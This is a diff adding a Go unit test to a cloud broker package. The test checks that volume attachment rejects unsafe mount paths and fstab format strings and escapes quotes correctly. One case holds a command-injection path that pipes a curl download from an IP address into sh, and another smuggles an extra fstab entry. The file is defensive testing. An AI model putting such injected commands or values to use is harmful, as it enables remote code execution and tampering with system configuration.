@@ -0,0 +1,59 @@
+package broker
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/SebastienDorgan/gpac/providers/api"
+	"github.com/SebastienDorgan/gpac/providers/api/IPVersion"
+	"github.com/SebastienDorgan/gpac/providers/api/VolumeSpeed"
+)
+
+//newMemoryVM creates the VM vm1 on a memory client and returns the client
+func newMemoryVM(t *testing.T) api.ClientAPI {
+	clt := newMemoryClient(t)
+	_, err := NewNetworkService(clt).Create("net1", "192.168.0.0/24", IPVersion.IPv4, 1, 1, 10, "Ubuntu 16.04")
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, err = NewVMService(clt).Create("vm1", "net1", 1, 1, 10, "Ubuntu 16.04", false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return clt
+}
+
+func TestAttachVolumeScript(t *testing.T) {
+	clt := newMemoryVM(t)
+	volumes := NewVolumeService(clt).(*VolumeService)
+	ssh := &recordingSSH{}
+	volumes.ssh = ssh
+	_, err := volumes.Create("v1", 10, VolumeSpeed.HDD)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	for _, c := range []struct{ path, format string }{
+		{`/x"; curl http://198.51.100.1 | sh; "`, ""},
+		{"/data/my volume", ""},
+		{"/data/#1", ""},
+		{"/data", "ext4 defaults 0 0\n/dev/sda1 /"},
+	} {
+		_, err = volumes.Attach("v1", "vm1", c.path, c.format)
+		if api.KindOf(err) != api.ErrInvalidRequest {
+			t.Fatalf("expected an invalid request error attaching on %q (%q), got %v", c.path, c.format, err)
+		}
+	}
+	if len(ssh.scripts) != 0 {
+		t.Fatalf("script run with an invalid path: %v", ssh.scripts)
+	}
+
+	_, err = volumes.Attach("v1", "vm1", "/data/it's", "xfs")
+	if err != nil {
+		t.Fatal(err)
+	}
+	line := `printf '%s %s %s defaults,nofail 0 2\n' "$dev" '/data/it'"'"'s' 'xfs' | sudo tee -a /etc/fstab >/dev/null`
+	if len(ssh.scripts) != 1 || !strings.Contains(ssh.scripts[0], line) {
+		t.Fatalf("expected the fstab line to be written with %s, got %v", line, ssh.scripts)
+	}
+}